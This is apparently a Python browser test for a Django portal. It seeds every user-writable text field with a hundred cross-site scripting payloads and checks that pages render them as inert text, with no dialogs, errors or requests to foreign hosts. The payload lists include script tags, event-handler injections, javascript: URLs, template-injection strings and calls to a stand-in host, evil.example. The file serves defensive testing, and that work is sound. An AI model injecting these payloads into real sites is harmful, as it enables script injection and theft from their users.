"""Markup that somebody writes into a text is shown as text to whoever reads it: no dialogue, no word from the content
security policy, nothing asked of a foreign host."""

from contextlib import suppress

import pytest
from django.db import DatabaseError, models, transaction
from playwright.sync_api import Error

from tests.access import MatrixWorld
from tests.browser.conftest import visit  # noqa: F401
from tests.browser.test_every_page import addresses, is_page
from tests.own import own_models

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ACTS = ["alert(1)", "confirm(1)", "fetch('//evil.example')", "location='//evil.example'"]
SHAPES = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "'\"><script>{}</script>", "\" onfocus={} autofocus x=\"",
    "' onmouseover={} '", "<a href=javascript:{}>x</a>", "<iframe src=javascript:{}>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "<body onload={}>", "<details open ontoggle={}>", "<video src=x onerror={}>",
    "<math><mtext><img src=x onerror={}>", "--><img src=x onerror={}>", "]]><script>{}</script>", "<input autofocus onfocus={}>",
    "<form action=javascript:{}><button>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:load={}>", "<button hx-post=//evil.example hx-trigger=load>", "<link rel=stylesheet href=//evil.example>",
    "<img src=//evil.example/x.png>",
]  # fmt: skip
PAYLOADS = [shape.format(act) for act in ACTS for shape in SHAPES]
QUICK = ["<script>alert(1)</script>", "'\"><img src=x onerror=alert(1)>", "<img src=//evil.example/x.png>"]
# Columns that no person writes: keys, codes and what the portal puts together itself.
NOT_WRITTEN = {
    "action", "address_hash", "agent", "area", "channel", "check_code", "clause", "code", "codename", "condition", "credit_code",
    "digest", "encoding", "field", "file", "first_period", "importer", "key", "kind", "language", "model", "object_id", "password",
    "period", "phone", "problem", "purpose", "role", "session_data", "session_key", "sha256", "slot", "source", "stage", "task",
    "url", "username", "sort_key", "path", "email", "address_of", "channel_address",
}  # fmt: skip


def written_columns(model) -> list[models.Field]:
    """Texts that somebody types: not chosen from a list, not unique, not a code of the portal's own."""
    unique = {name for rule in model._meta.total_unique_constraints for name in rule.fields}
    return [
        column
        for column in model._meta.concrete_fields
        if type(column) in (models.CharField, models.TextField)
        and column.name not in unique
        and not (column.choices or column.unique or column.primary_key or column.name in NOT_WRITTEN)
    ]


def fill_texts(payloads: list[str], turn: int) -> int:
    """Put payloads into every text of every record, as many as fit, beginning at another one each turn."""
    filled = 0
    for model in own_models():
        if model._meta.label in APPEND_ONLY:
            continue
        for column in written_columns(model):
            text, room = "", column.max_length or 1000
            for payload in payloads[turn % len(payloads) :] + payloads[: turn % len(payloads)]:
                if len(text) + len(payload) <= room:
                    text += payload
            # What the database keeps as it is (a vote's locked questions, its result) nobody can write into either.
            if text:
                with suppress(DatabaseError), transaction.atomic():
                    filled += model._base_manager.exclude(**{column.name: ""}).update(**{column.name: text})
    return filled


APPEND_ONLY = {"unions.Event", "unions.Seal", "unions.Reading", "unions.Refusal", "unions.Session", "unions.Parameter"}


@pytest.fixture
def world(seeded):
    return MatrixWorld()


class Watch:
    """What a page does that it should not."""

    def __init__(self, visitor):
        self.found: list[str] = []
        self.at = ""
        visitor.page.on("dialog", self._dialogue)
        visitor.page.on("request", self._request)
        visitor.page.on("console", lambda m: self._note(m.text) if m.type == "error" else None)
        visitor.page.on("pageerror", lambda e: self._note(str(e)))

    def _note(self, text: str) -> None:
        if "status of 4" not in text:
            self.found.append(f"{self.at}: {text}"[:300])

    def _dialogue(self, dialogue) -> None:
        self._note(f"dialogue {dialogue.message}")
        dialogue.dismiss()

    def _request(self, request) -> None:
        if (
            "//127.0.0.1" not in request.url
            and "//localhost" not in request.url
            and not request.url.startswith("data:")
        ):
            self._note(f"asked {request.url}")


def look(
    world, visitor, client, actor: str, payloads: list[str], turns: int, only: set[str] | None = None
) -> list[str]:
    visitor.sign_in(world.actor(actor), client)
    named = [(name, address) for name, address in addresses(world, actor) if only is None or name in only]
    pages = [(name, address) for name, address in named if is_page(visitor, address)]
    assert len(pages) > 8
    watch = Watch(visitor)
    for turn in range(turns):
        assert fill_texts(payloads, turn) > 50
        for name, address in pages:
            watch.at = f"{name} (turn {turn})"
            try:
                visitor.go(address)
            except Error as problem:
                watch._note(str(problem))
    visitor.faults.clear()
    return watch.found


MAIN = {
    "unions:home", "unions:inbox", "unions:union-list", "unions:union", "unions:union-edit", "unions:union-history", "unions:union-people",
    "unions:duty-list", "unions:duty", "unions:tree", "unions:search", "unions:board", "disclosure:return-list", "disclosure:return-detail",
    "disclosure:review", "disclosure:summary", "unions:rule", "unions:import-list", "unions:import", "unions:job-list",
}  # fmt: skip


def test_the_main_pages_show_markup_as_text(world, visit, client):  # noqa: F811
    assert not look(world, visit(), client, "MC", QUICK, 1, MAIN)


@pytest.mark.faults
@pytest.mark.parametrize("actor", ["DS", "MC"])
def test_every_page_shows_a_hundred_payloads_as_text(world, visit, client, actor, record):  # noqa: F811
    assert len(PAYLOADS) == 100
    turns = 10  # what is too short for all hundred begins with another of them each turn
    found = look(world, visit(), client, actor, [p for n in range(turns) for p in PAYLOADS[n::turns]], turns)
    record(payloads=len(PAYLOADS), turns=turns, found=len(found))
    assert not found, found[:5]
